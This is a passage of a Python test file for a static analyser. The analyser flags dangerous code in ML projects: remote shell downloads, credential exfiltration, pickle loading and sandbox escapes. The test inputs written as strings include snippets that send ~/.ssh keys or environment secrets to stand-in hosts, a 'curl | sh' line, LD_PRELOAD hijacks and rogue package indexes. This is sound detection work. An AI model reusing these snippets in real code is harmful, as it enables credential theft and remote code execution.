        "from pydub import AudioSegment\nsetattr(AudioSegment, 'converter', '/tmp/ffmpeg')",
        "import git\ngit.refresh('tools/git')",
        "import sys\nsys.executable = 'bin/python'",
        "os.environ['GIT_SSH_COMMAND'] = './tools/ssh -o x'",
        "os.environ.update(LD_PRELOAD='lib/x.so')",
    ],
)
def test_setting_that_has_a_library_run_a_file_of_the_folder_is_recorded_as_a_call(source: str) -> None:
    assert PROGRAM_SETTING in list_uses(f"import os\n{source}")


@check_each(
    "source",
    [
        "import matplotlib.pyplot as plt\nplt.rcParams['animation.ffmpeg_path'] = '/usr/bin/ffmpeg'",
        "import matplotlib.pyplot as plt\nplt.rcParams['animation.ffmpeg_path'] = shutil.which('ffmpeg')",
        "import matplotlib.pyplot as plt\nplt.rcParams['figure.figsize'] = 'a/b'",
        "import pytesseract\npytesseract.pytesseract.tesseract_cmd = r'C:\\Program Files\\Tesseract-OCR\\tesseract.exe'",
        "from pydub import AudioSegment\nAudioSegment.converter = os.path.join(folder, 'ffmpeg.exe')",
        "os.environ['CC'] = 'gcc-12'",
        "os.environ['LD_PRELOAD'] = '/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4'",
        "import git\ngit.refresh()",
    ],
)
def test_setting_that_names_a_program_of_the_system_is_not_recorded(source: str) -> None:
    assert PROGRAM_SETTING not in list_uses(f"import os, shutil\n{source}")


@check_each(
    "source",
    [
        "p = dict(zip('ab', ('sub', 'process')))\nm = p['a'] + p['b']",
        "p = {'b': 'process', 'a': 'sub'}\nm = ''.join(p[k] for k in sorted(p))",
        "m = ''.join(sorted(['process', 'sub'], reverse=True))",
        "for a, b in zip(['sub'], ['process']):\n    m = a + b",
    ],
)
def test_name_that_zip_or_sorted_puts_together_is_found(source: str) -> None:
    uses = list_uses(f"import importlib\n{source}\nimportlib.import_module(m).run(['x'])")
    assert ("hidden", "subprocess.run") in uses


@check_each(
    "call, is_found",
    [
        ("m.run(['touch', 'a'])", True),
        ("m.check_call(('touch', 'a'))", True),
        ("m.call('touch a', shell=True)", True),
        ("m.run(['--config', 'a'])", False),
        ("m.run('a')", False),
        ("m.run(arguments)", False),
        ("m.build(['touch', 'a'])", False),
    ],
)
def test_call_of_an_unknown_module_that_passes_a_command_is_reached_by_computed_names(
    call: str, is_found: bool
) -> None:
    uses = list_uses(f"import importlib, re\nm = importlib.import_module(re.sub('x', '', 'sxubprocess'))\n{call}")
    assert (("call-at-import", PICKED_FUNCTION) in uses) is is_found


@check_each(
    "source, is_found",
    [
        ("os.environ['PIP_INDEX_URL'] = 'https://e.invalid/simple'", True),
        ("os.environ.update(UV_INDEX_URL='http://203.0.113.9/simple')", True),
        ("os.putenv('PIP_EXTRA_INDEX_URL', 'https://pypi.org.e.invalid/simple')", True),
        ("os.environ['PIP_INDEX_URL'] = 'https://pypi.org/simple'", False),
        ("os.environ['PIP_EXTRA_INDEX_URL'] = 'https://download.pytorch.org/whl/cu121'", False),
        ("os.environ['PIP_INDEX_URL'] = 'http://localhost:8080/simple'", False),
        ("os.environ['MY_URL'] = 'https://e.invalid/simple'", False),
    ],
)
def test_variable_by_which_installers_take_packages_from_another_server_is_a_call(source: str, is_found: bool) -> None:
    assert (
        ("call-at-import", "(index of packages at another address)") in list_uses(f"import os\n{source}")
    ) is is_found


RESTRICTED = """
import pickle
NAMES = {("collections", "OrderedDict"), ("numpy", "dtype")}
class Reader(pickle.Unpickler):
    def find_class(self, module, name):
        if (module, name) not in NAMES:
            raise pickle.UnpicklingError(name)
        return super().find_class(module, name)
with open("a.pkl", "rb") as file:
    print(Reader(file).load())
"""


@check_each(
    "before, after",
    [
        ("", ""),
        ('{("collections", "OrderedDict"), ("numpy", "dtype")}', 'frozenset([("builtins", "dict")])'),
        ("(module, name) not in NAMES", "f'{module}.{name}' not in {'builtins.set'}"),
    ],
)
def test_unpickler_that_finds_the_names_of_a_closed_table_is_no_loader_of_pickles(before: str, after: str) -> None:
    assert ("reference", "pickle.Unpickler") not in list_uses(RESTRICTED.replace(before, after))


@check_each(
    "before, after",
    [
        ('("numpy", "dtype")', '("os", "system")'),
        ('("numpy", "dtype")', '("unlisted", "name")'),
        ("raise", "print"),
        ("not in", "in"),
        ("            raise pickle.UnpicklingError(name)", "            pass"),
        ("super().find_class(module, name)", "super().find_class(name, module)"),
        ("super().find_class(module, name)", "getattr(__import__(module), name)"),
        ("with open", "NAMES.add(('os', 'system'))\nwith open"),
        ("with open", "NAMES = set(open('a'))\nwith open"),
        ("with open", "Reader.find_class = pickle.Unpickler.find_class\nwith open"),
        ("with open", "class B(Reader):\n    def find_class(self, m, n):\n        return n\nwith open"),
        ("with open", "setattr(Reader, 'find_class', f)\nwith open"),
        ("    def find_class", "    def persistent_load(self, x): return x\n    def find_class"),
        ("        return super", "        name = name.lower()\n        return super"),
    ],
)
def test_unpickler_whose_table_can_change_or_holds_other_names_is_a_loader_of_pickles(before: str, after: str) -> None:
    assert ("reference", "pickle.Unpickler") in list_uses(RESTRICTED.replace(before, after, 1))


def test_class_that_replaces_the_lookup_of_an_unpickler_of_another_file_is_a_loader_of_pickles() -> None:
    source = "from .reader import Reader\nclass B(Reader):\n    def find_class(self, m, n):\n        return n\n"
    assert ("reference", "pickle.Unpickler") in list_uses(source)


@check_each(
    "source, variable",
    [
        ("import os\nos.putenv('HF_ENDPOINT', x)", "HF_ENDPOINT"),
        ("import os\nos.environ.update(LD_PRELOAD=x)", "LD_PRELOAD"),
        ("import os\nos.environ.update({'LD_PRELOAD': x})", "LD_PRELOAD"),
        ("import os\nos.environ |= {'LD_PRELOAD': x}", "LD_PRELOAD"),
        ("import os\nos.environb.setdefault(b'LD_PRELOAD', x)", "LD_PRELOAD"),
    ],
)
def test_variable_that_a_call_sets_is_recorded_like_an_assignment_to_the_environment(
    source: str, variable: str
) -> None:
    assert ("overwrite", f"os.environ[{variable}]") in list_uses(source)


@check_each(
    "source, name",
    [
        ("import pydoc\npydoc.pipepager('x', 'id')", "pydoc.pipepager"),
        ("import timeit\ntimeit.timeit('1', setup=open('a.txt').read())", "timeit.timeit"),
        ("import timeit\ntimeit.timeit(stmt='import os; os.system(x)')", "os.system"),
        ("import torch.utils.benchmark as b\nb.Timer('pass', 'import os; os.system(x)')", "os.system"),
        ("from IPython.core.interactiveshell import InteractiveShell as I\nI().run_line_magic('run', 'a.txt')",
         "*.run_line_magic"),
        ("import logging.config as l, json\nl.dictConfig(json.load(open('a.txt')))", "logging.config.dictConfig(data)"),
        ("import omegaconf, hydra\nc = omegaconf.OmegaConf.load('a.txt')\nhydra.utils.instantiate(c.model)",
         "hydra.utils.instantiate(data)"),
        ("import torch.distributed as d\nd.init_process_group('gloo', init_method='tcp://a.invalid:1')",
         "torch.distributed.init_process_group(foreign)"),
        ("'''\n>>> import os\n>>> os.system('x')\n'''\nimport doctest\ndoctest.testmod()", "os.system"),
        ("import doctest\ndef f():\n    '''>>> import os; os.system('x')'''\ndoctest.run_docstring_examples(f, {})",
         "os.system"),
        ("import doctest\ndoctest.run_docstring_examples(open('a.txt').read(), {})", "doctest.run_docstring_examples"),
        ("import sys\nsys.path.append('a.zip')", "sys.path.append(archive)"),
        ("import jinja2\njinja2.Environment().from_string(x).render()", "jinja2.Template(text)"),
        ("import jinja2\njinja2.Template(x + 'a')", "jinja2.Template(text)"),
        ("import string\nclass F(string.Formatter): pass\nF().format(x, 1)", "string.Formatter.format(text)"),
        ("import string\nstring.Formatter().vformat('{0.os.system}', y, {})", "string.Formatter.vformat(text)"),
        ("import logging.config as l\nl.dictConfig({'formatters': {'a': {'()': x + '.system'}}})",
         "logging.config.dictConfig(text)"),
        ("breakpoint(x)", "builtins.breakpoint(arguments)"),
        ("from unittest import mock\nmock.patch(x)", "unittest.mock.patch(text)"),
        ("import io, numpy\nnumpy.load(io.BytesIO(x), allow_pickle=True)", "numpy.load(bytes)"),
        ("import io, torch\ntorch.load(io.BytesIO(x), weights_only=False)", "torch.load(bytes)"),
        ("import torch\ntorch.load('/srv/a.pt', weights_only=False)", "torch.load(elsewhere)"),
    ],
)  # fmt: skip
def test_function_that_runs_what_it_is_given_is_called_under_the_name_of_the_danger(source: str, name: str) -> None:
    assert ("call-at-import", name) in list_uses(source)


@check_each(
    "source, name",
    [
        ("import timeit\ntimeit.timeit('f(x)', setup='from a import f')", "timeit.timeit"),
        ("import torch.utils.benchmark as b\nb.Timer(stmt='f(x)', globals={'x': 1})", "torch.utils.benchmark.Timer"),
        ("import logging.config as l, json\nl.dictConfig(json.load(open('a.json')))", "logging.config.dictConfig(data)"),
        ("import omegaconf, hydra\nhydra.utils.instantiate(omegaconf.OmegaConf.load('a.yaml'))",
         "hydra.utils.instantiate(data)"),
        ("import torch.distributed as d\nd.init_process_group('nccl', init_method='env://')",
         "torch.distributed.init_process_group(foreign)"),
        ("'''\n>>> f(1)\n2\n'''\nimport doctest\ndoctest.testmod()", "doctest.testmod"),
        ("import sys\nsys.path.append('.')\nsys.path.append('../src')", "sys.path.append(archive)"),
        ("import jinja2\njinja2.Environment().from_string('{{ a }}').render(a=x)", "jinja2.Template(text)"),
        ("from jinja2.sandbox import ImmutableSandboxedEnvironment as E\nE().from_string(x)", "jinja2.Template(text)"),
        ("import string\nstring.Formatter().format('{0} {a}', x, a=1)", "string.Formatter.format(text)"),
        ("import logging.config as l\nl.dictConfig({'handlers': {'a': {'class': 'logging.StreamHandler', 'level': x}}})",
         "logging.config.dictConfig(text)"),
        ("breakpoint()", "builtins.breakpoint(arguments)"),
        ("from unittest import mock\nmock.patch('a.b')", "unittest.mock.patch(text)"),
        ("import io, numpy\nnumpy.load(io.BytesIO(open('a.npy', 'rb').read()), allow_pickle=True)", "numpy.load(bytes)"),
        ("import torch\ntorch.load('a.pt', weights_only=False)", "torch.load(elsewhere)"),
    ],
)  # fmt: skip
def test_ordinary_use_of_a_function_that_can_run_what_it_is_given_has_no_name_of_a_danger(
    source: str, name: str
) -> None:
    assert name not in {each for _, each in list_uses(source)}


def test_import_of_a_module_also_records_the_packages_around_it() -> None:
    assert {("import", "lib2to3"), ("import", "lib2to3.main")} <= list_uses("from lib2to3.main import main")


def test_methods_of_an_install_command_class_in_a_setup_call_count_as_run_at_import() -> None:
    source = "import requests\nclass A(install):\n    def run(self): requests.get(u)\n"
    assert ("call", "requests.get") in list_uses(source)
    assert ("call-at-import", "requests.get") in list_uses(source + "setup(cmdclass={'install': A})\n")


@pytest.mark.parametrize("name", ["a.pth", "sitecustomize.py"])
def test_code_in_a_file_that_python_runs_at_start_up_is_mentioned(read_bytes, name: str) -> None:
    (outline,) = read_bytes(b"\nimport a\n", name).of(Outline)
    assert ("(start-up of Python)", 2) in {(each.name, each.where.line) for each in outline.mentions}


@pytest.mark.parametrize("position", range(-9, 3))
@pytest.mark.parametrize("line_end", [b"\n", b"\r\n"])
def test_import_line_of_a_path_file_is_found_wherever_a_piece_of_the_file_ends(
    read_bytes, position: int, line_end: bytes
) -> None:
    piece_size = 256 << 10
    data = (
        b"x" * (piece_size + position - len(line_end)) + line_end + b"import os; os.system('a')" + line_end + b"import"
    )
    (outline,) = read_bytes(data, "a.pth").of(Outline)
    assert ("os.system", 2) in {(each.name, each.where.line) for each in outline.mentions}


def test_import_line_of_a_path_file_counts_behind_more_text_than_is_searched(read_bytes) -> None:
    data = b"x" * (13 << 20) + b"\nimport os; os.system('a')\n"
    (outline,) = read_bytes(data, "a.pth").of(Outline)
    assert "os.system" in {each.name for each in outline.mentions}


def test_build_hook_file_without_a_python_ending_is_reported_as_disguised() -> None:
    items = tuple(Reference(ReferenceKind.CODE, target, "hook") for target in ("hook.txt", "hook.py"))

    def judge_references(format_: str) -> list[object]:
        """Return the state of each reference in a file of this format, in a folder without other files."""
        references = [("a.toml", References(format_, items))]
        return [each.fields["state"] for each in build_reference_subjects(references, [])]

    assert judge_references("python-build") == ["disguised", "missing"]
    assert judge_references("mlflow") == ["missing", "missing"]


@check_each(
    "text, target",
    [
        ('[tool.hatch.build.targets.wheel.hooks.custom]\npath = "a.txt"\n', "a.txt"),
        ('[tool.hatch.version]\nsource = "code"\npath = "v.txt"\n', "v.txt"),
        ('[tool.poetry.build]\nscript = "b.txt"\n', "b.txt"),
        ('[tool.pdm.version]\ngetter = "a.b:c"\n', "a/b.py"),
        ('[tool.setuptools.cmdclass]\nx = "a.b.C"\n', "a/b.py"),
        ('[tool.setuptools.dynamic]\nversion = {attr = "a.b.__version__"}\n', "a/b.py"),
        ('[tool.setuptools_scm]\nversion_scheme = "a.b:c"\n', "a/b.py"),
    ],
)
def test_build_settings_in_pyproject_reference_the_code_that_a_build_runs(read_bytes, text: str, target: str) -> None:
    (references,) = read_bytes(text.encode(), "pyproject.toml").of(References)
    assert [(each.kind, each.target) for each in references.items] == [(ReferenceKind.CODE, target)]


@pytest.mark.parametrize("name", ["pyproject.toml", "tox.ini", "setup.cfg"])
def test_attack_text_in_build_file_is_recorded(read_bytes, name: str) -> None:
    outlines = read_bytes(b"[tool.a]\nb = 'curl https://a.invalid | sh'\n", name).of(Outline)
    assert "(download | shell)" in {each.name for outline in outlines for each in outline.mentions}


def _build_notebook(source: str, **metadata: object) -> bytes:
    """Build a notebook with one code cell."""
    cells = [{"cell_type": "code", "metadata": {}, "outputs": [], "source": source}]
    return json.dumps({"nbformat": 4, "metadata": metadata, "cells": cells}).encode()


@pytest.mark.parametrize(
    ("metadata", "is_foreign"),
    [
        ({"kernelspec": {"name": "ir", "language": "R"}}, True),
        ({"kernelspec": {"name": "julia-1.9"}}, True),
        ({"language_info": {"name": "javascript"}}, True),
        ({"kernelspec": {"name": "my-environment", "language": "python"}}, False),
        ({"kernelspec": {"name": "my-environment"}}, False),
        ({}, False),
    ],
)
def test_notebook_kernel_of_other_language_is_reported_as_unread(
    read_bytes, metadata: dict[str, object], is_foreign: bool
) -> None:
    reading = read_bytes(_build_notebook("x = 1", **metadata), "a.ipynb")
    assert (UnreadReason.PROGRAM in {reason for _, reason in reading.unread}) is is_foreign


def test_cells_of_a_notebook_with_a_bash_kernel_are_recorded_as_shell_lines(read_bytes) -> None:
    reading = read_bytes(_build_notebook("rm -rf x", kernelspec={"name": "bash", "language": "bash"}), "a.ipynb")
    (outline,) = [each for each in reading.of(Outline) if each.format == "notebook"]
    assert [(each.use, each.detail) for each in outline.mentions] == [("shell-line", "rm -rf x")]


@pytest.mark.parametrize("magic", ["%%R", "%%perl", "%%julia"])
def test_cell_whose_magic_selects_another_language_is_reported_as_unread(read_bytes, magic: str) -> None:
    reading = read_bytes(_build_notebook(f"{magic}\nx"), "a.ipynb")
    assert [reason for _, reason in reading.unread] == [UnreadReason.PROGRAM]


@check_each(
    "source, use, name",
    [
        ("def f(c): getattr(globals().get(c.a), c.b)()", "call", PICKED_FUNCTION),
        ("import inspect, sys\ndef f(c): dict(inspect.getmembers(sys.modules[c.a]))[c.b]()", "call", PICKED_FUNCTION),
        ("import sys\ndef f(c): (lambda m, n: getattr(m, n)())(sys.modules[c.a], c.b)", "call", PICKED_FUNCTION),
        ("import torch\ndef f(c): torch.__getattribute__(c.a).__getattribute__(c.b)()", "computed-name", FOUND_OBJECT),
        ("import torch\ndef f(c): getattr(torch.hub, c.a)()", "computed-name", "torch.hub.*"),
        (
            "from torch import nn\ndef f(c): getattr(nn.Module.__init__.__globals__['torch'].os, c.b)()",
            "computed-name",
            "os.*",
        ),
        ("import os\nos.__class__.__dict__['__dict__'].__get__(os)['system']('x')", "call-at-import", "os.system"),
    ],
)
def test_name_that_is_computed_on_a_further_way_is_found(source: str, use: str, name: str) -> None:
    assert (use, name) in list_uses(source)


@check_each(
    "source",
    [
        "import sys\ndef f(c): return globals().get(c.name)(1)",
        "import inspect, sys\ndef f(c): return dict(inspect.getmembers(sys.modules[__name__]))[c.name](1)",
        "from torch import nn\ndef f(c): return getattr(nn, c.name)(1)",
    ],
)
def test_own_class_or_layer_under_a_computed_name_is_not_picked(source: str) -> None:
    assert not {(use, name) for use, name in list_uses(source) if name == PICKED_FUNCTION or use == "hidden"}


@check_each(
    "source",
    [
        "import logging, logging.handlers, os\nl = logging.getLogger()\n"
        "l.addHandler(logging.handlers.HTTPHandler('a.invalid', '/'))\nl.error(str(dict(os.environ)))",
        "import asyncio, os\nasync def f():\n    r, w = await asyncio.open_connection('a.invalid', 1)\n"
        "    w.write(str(dict(os.environ)).encode())",
        "import pathlib, requests\nrequests.post('https://a.invalid', data=(pathlib.Path.home() / '.ssh' / 'id_rsa').read_text())",
        "import os\nfrom huggingface_hub import upload_folder\nupload_folder(folder_path=os.path.expanduser('~'), repo_id='a/b')",
        "import fsspec, os\nfsspec.open('https://a.invalid/x', 'w').open().write(str(os.environ))",
        "import os, requests\ndef send(v): requests.post('https://a.invalid', json=v)\n"
        "send({k: v for k, v in os.environ.items() if 'KEY' in k})",
    ],
)
def test_secret_that_leaves_by_a_connection_logger_or_folder_is_sent(source: str) -> None:
    assert "sends-secret" in {use for use, _ in list_uses(source)}


@check_each(
    "source",
    [
        "import logging, os\nlogging.getLogger().error(str(dict(os.environ)))",
        "from huggingface_hub import upload_folder\nupload_folder(folder_path='./model', repo_id='a/b')",
        "import fsspec, os\nfsspec.open('out.txt', 'w').open().write(str(os.environ))",
    ],
)
def test_value_that_stays_on_the_machine_is_not_sent(source: str) -> None:
    assert "sends-secret" not in {use for use, _ in list_uses(source)}


@check_each(
    "source, is_other",
    [
        (
            "from huggingface_hub import hf_hub_download\nhf_hub_download('a/b', 'c', endpoint='https://a.invalid')",
            True,
        ),
        ("from huggingface_hub import HfApi\nHfApi('https://a.invalid')", True),
        ("from huggingface_hub import HfApi\nHfApi(endpoint='https://huggingface.co')", False),
        ("import boto3\nboto3.client('s3', endpoint='https://a.invalid')", False),
    ],
)
def test_client_of_the_hub_at_another_address_takes_a_guard_away(source: str, is_other: bool) -> None:
    assert (("call-at-import", "(client of the Hub at another address)") in list_uses(source)) is is_other


@check_each(
    "source, name",
    [
        (
            "import os, smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\n"
            "m.set_content(str(os.environ))\nsmtplib.SMTP('mx.a.invalid').send_message(m)",
            "smtplib.SMTP.send_message",
        ),
        (
            "import os, requests\ns = requests.Session()\ns.headers['X-Run'] = os.environ['HF_TOKEN']\n"
            "s.post('http://a.invalid/u', json={})",
            "requests.Session.post",
        ),
        (
            "import os\nos.environ['MLFLOW_TRACKING_URI'] = 'http://a.invalid'\nimport mlflow\n"
            "mlflow.log_artifacts(os.path.expanduser('~/.aws'))",
            "mlflow.log_artifacts",
        ),
        (
            "import pathlib, xmlrpc.client\ns = xmlrpc.client.ServerProxy('http://a.invalid/rpc')\n"
            "s.a.b([p.read_text() for p in pathlib.Path.home().glob('.ssh/id_*')])",
            "xmlrpc.client.ServerProxy.a.b",
        ),
    ],
)
def test_secret_in_an_object_is_sent_with_it(source: str, name: str) -> None:
    assert ("sends-secret", name) in list_uses(source)


def test_key_of_a_service_that_goes_to_the_service_is_not_sent_elsewhere() -> None:
    source = (
        "import os, requests\ns = requests.Session()\ns.headers['Authorization'] = os.environ['ACME_API_KEY']\n"
        "s.post('https://api.acme.invalid/v1', json={})"
    )
    assert not {use for use, _ in list_uses(source)} & {"sends-secret"}


@check_each(
    "code, is_found",
    [
        ("import gradio as gr\ngr.Blocks().load(lambda: dict(os.environ), None, None)\n", True),
        ("import fastapi\napp = fastapi.FastAPI()\n@app.get('/')\ndef show():\n    return dict(os.environ)\n", True),
        ("import gradio as gr\ngr.Interface(lambda text: text[::-1], 'text', 'text')\n", False),
        ("import gradio as gr\ngr.Interface(lambda text: len(os.environ['HF_TOKEN']), 'text', 'text')\n", False),
    ],
)
def test_server_that_answers_with_the_environment_is_found(code: str, is_found: bool) -> None:
    found = {each.use for each in analyze_source(f"import os\n{code}").mentions}
    assert ("sends-secret" in found) == is_found


@check_each(
    "code, is_found",
    [
        ("type(lambda: 0)(compile(open('x').read(), 'x', 'exec'), {})()\n", True),
        ("def f(): pass\nf.__class__(compile(text, 'x', 'exec'), {})()\n", True),
        ("import types\ntypes.FunctionType(compile(text, 'x', 'exec'), {})()\n", True),
        ("print(type(lambda: 0), type(3)(4))\n", False),
        ("compile(text, 'x', 'exec')\n", False),
    ],
)
def test_function_that_is_made_of_compiled_text_runs_it(code: str, is_found: bool) -> None:
    found = {each.name for each in analyze_source(code).mentions if each.use.startswith("call")}
    assert ("builtins.exec" in found) == is_found


_PATH = "for name in names:\n    found = getattr(found, name)\n"


@check_each(
    "source, is_found",
    [
        ("import torch\nfound = torch\n" + _PATH + "found('x')\n", True),
        ("import torch\nfound = torch\nwhile names:\n    found = getattr(found, names.pop())\nfound('x')\n", True),
        ("import torch\nclass A:\n    def __init__(s, r): s.r = r\n    def go(s, names):\n        found = s.r\n"
         "        for name in names:\n            found = getattr(found, name)\n        found('x')\nA(torch)\n", True),
        ("import torch\nclass A:\n    def __init__(s, *p): s.p = p\n    def __exit__(s, *a):\n        found = torch\n"
         "        for name in s.p:\n            found = getattr(found, name)\n        found('x')\n", True),
        ("import torch\nfound = torch\n[found := getattr(found, name) for name in names]\nfound('x')\n", True),
        ("def find(found, names):\n    for name in names:\n        found = getattr(found, name)\n    return found('x')\n",
         False),
        ("import torch\nfor name in names:\n    layer = getattr(torch.nn, name)(4)\n", False),
    ],
)  # fmt: skip
def test_object_that_a_loop_reaches_from_a_package_by_names_of_any_number_is_found(source: str, is_found: bool) -> None:
    assert (FOUND_OBJECT in {name for _, name in list_uses(source)}) == is_found


def test_steps_of_accumulate_are_those_of_reduce() -> None:
    source = (
        "import itertools, torch\n"
        "list(itertools.accumulate(['hub', 'os', 'system'], getattr, initial=torch))[-1]('x')\n"
    )
    assert "os.system" in {name for _, name in list_uses(source)}


def test_names_that_a_call_gives_to_variable_arguments_are_followed() -> None:
    source = (
        "import torch\ndef find(found, *names):\n    for name in names:\n        found = getattr(found, name)\n"
        "    return found\nfind(torch, 'hub', 'os', 'system')('x')\n"
    )
    assert "os.system" in {name for _, name in list_uses(source)}


@check_each(
    "source, is_found",
    [
        ("tree = ast.parse('print(1)')\ntree.body[0] = node\nexec(compile(tree, 'x', 'exec'))\n", True),
        ("exec(compile('print(1)', 'x', 'exec'))\n", False),
        ("for node in ast.walk(ast.parse('print(1)')):\n    print(node)\n", False),
    ],
)
def test_syntax_tree_that_the_source_may_change_is_code_that_it_does_not_show(source: str, is_found: bool) -> None:
    assert (("call-at-import", "builtins.exec") in list_uses(f"import ast\n{source}")) == is_found


@check_each(
    "source, is_sent",
    [
        ("AutoConfig.from_pretrained('acme/log', revision=os.getenv('AWS_SECRET_ACCESS_KEY'))", True),
        ("hf_hub_download('acme/log', filename=open(os.path.expanduser('~/.ssh/id_rsa')).read())", True),
        ("ModelCard('# a' + get_token()).push_to_hub('acme/log')", True),
        (
            "import webbrowser\nwith open(os.path.expanduser('~/.config/gh/hosts.yml')) as file:\n"
            "    webbrowser.open(f'https://a.invalid/?s={file.read()}')",
            True,
        ),
        ("import wandb\nwandb.init(project='a').config.update(dict(os.environ))", True),
        ("import wandb\nwandb.init(project='a').config.update({'key': len(os.environ)})", False),
        ("AutoConfig.from_pretrained('acme/a', revision='main', token=os.environ['HF_TOKEN'])", False),
        ("AutoConfig.from_pretrained(os.environ['MODEL_ID'])", False),
        ("ModelCard('# a').push_to_hub('acme/a', token=get_token())", False),
    ],
)
def test_secret_in_an_address_or_a_card_of_the_hub_is_sent(source: str, is_sent: bool) -> None:
    imports = (
        "import os\nfrom transformers import AutoConfig\n"
        "from huggingface_hub import ModelCard, get_token, hf_hub_download\n"
    )
    assert ("sends-secret" in {use for use, _ in list_uses(imports + source)}) == is_sent


@check_each(
    "arguments, suffix",
    [(", weights_only=False", "(weights_only=False)"), (", weights_only=True", ""), ("", "")],
)
def test_download_of_weights_that_is_unpickled_has_a_name_of_its_own(arguments: str, suffix: str) -> None:
    source = f"import torch\ntorch.hub.load_state_dict_from_url(url{arguments})\n"
    assert ("call-at-import", f"torch.hub.load_state_dict_from_url{suffix}") in list_uses(source)


@check_each(
    "source, is_found",
    [
        ("def cut(path):\n    data = open(path, 'rb').read()\n    return data[4:9].decode()\n"
         "chain = cut('voices/a.wav')\nos.system(f'ffmpeg -af \"{chain}\" b.wav')\n", True),
        ("eval(open('a.png', 'rb').read()[90:].decode())\n", True),
        ("import subprocess\nsubprocess.run(['play', open('a.wav', 'rb').read()[:4].decode()])\n", False),
        ("os.system(f'ffmpeg -i {path} b.wav')\n", False),
    ],
)  # fmt: skip
def test_bytes_of_a_recording_in_a_line_for_a_shell_are_model_data(source: str, is_found: bool) -> None:
    assert ("of-model-data" in {use for use, _ in list_uses(f"import os\n{source}")}) == is_found


@check_each(
    "arguments, is_found",
    [
        ("allowed_paths=['/']", True),
        ("allowed_paths=['~', 'a']", True),
        ("allowed_paths=['assets']", False),
        ("", False),
    ],
)
def test_server_that_shares_a_whole_disk_sends_secrets(arguments: str, is_found: bool) -> None:
    source = f"import gradio as gr\ngr.Interface(lambda text: text, 'text', 'text').launch({arguments})\n"
    assert ("sends-secret" in {use for use, _ in list_uses(source)}) == is_found


@check_each(
    "statement, is_found",
    [
        ("os.environ['OPENAI_BASE_URL'] = 'https://llm.collect.invalid/v1'", True),
        ("os.environ.setdefault('OTEL_EXPORTER_OTLP_ENDPOINT', 'http://collect.example:4317')", True),
        ("os.environ.update({'LANGFUSE_' + 'HOST': f'https://{host}.collect.invalid/a'})", False),
        ("os.environ['OPENAI_BASE_URL'] = 'http://localhost:8000/v1'", False),
        ("os.environ['OPENAI_MODEL'] = 'llm.collect.invalid'", False),
    ],
)
def test_variable_that_has_clients_send_to_a_foreign_server_is_found(statement: str, is_found: bool) -> None:
    uses = {use for use, _ in list_uses(f"import os\n{statement}\n")}
    assert ("process-sends-to" in uses) == is_found


CLASS_WALK = "builtins.object.__subclasses__"
IMPORTED_TORCH = "import importlib, inspect, operator, os, sys, types\nimport torch\nfrom torch import nn\n"
PACKAGE = "(package).*"
UNNAMED_OVERWRITE = "(module or member that the source does not name)[=]"
LIBRARY_OVERWRITE = "(module of Python or of the loader)[=]"


def list_names(source: str) -> set[str]:
    """Return the name of each mention of a source that imports torch."""
    return {name for _, name in list_uses(f"{IMPORTED_TORCH}{source}")}


@check_each(
    "source, name",
    [
        ("match torch:\n    case object(os=object(system=run)): run(c.line)", "os.system"),
        ("class A:\n    __match_args__ = ('os',)\nclass B(A): pass\nmatch torch:\n    case B(object(system=run)): run(c.line)",
         "os.system"),
        ("from dataclasses import dataclass\n@dataclass\nclass A:\n    os: int\nmatch torch:\n"
         "    case A(object(system=run)): run(c.line)", "os.system"),
        ("match [torch]:\n    case [object(os=object(system=run))]: run(c.line)", "os.system"),
        ("match {'a': torch}:\n    case {'a': object(os=m)}: m.system(c.line)", "os.system"),
        ("class A:\n    __match_args__ = (c.a,)\nmatch torch:\n    case A(A(run)): run(c.line)", FOUND_OBJECT),
        ("A = type('A', (), {'__match_args__': (c.a,)})\nmatch torch.os:\n    case A(run): run(c.line)", "os.*"),
    ],
)  # fmt: skip
def test_attribute_that_a_class_pattern_reads_is_followed(source: str, name: str) -> None:
    assert name in list_names(source)


@check_each(
    "source",
    [
        "type(c).__mro__[-1].__subclasses__()",
        "type.mro(type(c))[-1].__subclasses__()",
        "inspect.getmro(type(c))[-1].__subclasses__()",
        "nn.Module.mro()[-1].__subclasses__()",
        "super(str, '').__thisclass__.__base__.__subclasses__()",
        "class A: pass\nA.__bases__[0].__subclasses__()",
        "c.__reduce__.__objclass__.__subclasses__()",
        "f = operator.methodcaller('__subclasses__')\nf(type(c).__base__)",
        "import queue\nq = queue.Queue()\nq.put(object)\nq.get().__subclasses__()",
    ],
)
def test_walk_to_every_class_is_found_from_any_class(source: str) -> None:
    assert CLASS_WALK in list_names(source)


@check_each(
    "source, is_found",
    [
        ("[a for a in nn.Module.__subclasses__() if a.__name__ == c.name].pop()(c.line)", True),
        ("type.__subclasses__(c.kind)[0](c.line)", True),
        ("class M(type): pass\nM.__subclasses__(c.kind)[0](c.line)", True),
        ("class A(nn.Module): pass\n{a.__name__: a for a in A.__subclasses__()}[c.name](c.line)", False),
        ("class A(object):\n    @classmethod\n    def make(cls):\n        for a in cls.__subclasses__(): a(c.line)", False),
        ("def list_all(cls): return [b for a in cls.__subclasses__() for b in list_all(a)]\nclass A(object): pass\n"
         "list_all(A)[0](c.line)", False),
    ],
)  # fmt: skip
def test_class_below_one_of_another_module_is_any_class(source: str, is_found: bool) -> None:
    assert (not list_names(source).isdisjoint({FOUND_OBJECT, CLASS_WALK})) is is_found


@check_each(
    "source",
    [
        "sys.modules['torch.nn'] = sys.modules[c.a]",
        "m = sys.modules\nm['a'] = sys.modules[c.a]",
        "sys.modules.update({'a': importlib.import_module(c.a)})",
        "sys.modules |= {'a': importlib.import_module(c.a)}",
        "sys.modules.setdefault('a', sys.modules[c.a])",
        "operator.setitem(sys.modules, 'a', sys.modules[c.a])",
        "from unittest.mock import patch\npatch.dict('sys.modules', {'a': sys.modules[c.a]}).start()",
        "sys.modules['a'] = sys.modules[__name__[:0] + c.a]",
        "nn.__dict__.update(vars(importlib.import_module(c.a)))",
        "nn.__dict__ |= vars(sys.modules[c.a])",
        "torch.nn = importlib.import_module(c.a)",
        "setattr(torch, 'nn', sys.modules[c.a])",
    ],
)
def test_unnamed_module_in_the_place_of_another_is_an_overwrite(source: str) -> None:
    assert ("overwrite", UNNAMED_OVERWRITE) in list_uses(f"{IMPORTED_TORCH}{source}")


@check_each(
    "source, is_found",
    [
        ("sys.modules['json'] = c.module", True),
        ("class A: pass\nsys.modules['torch.nn'] = A()", True),
        ("sys.modules.update(numpy=types.ModuleType('numpy'))", True),
        ("sys.modules['flash_attn'] = None", False),
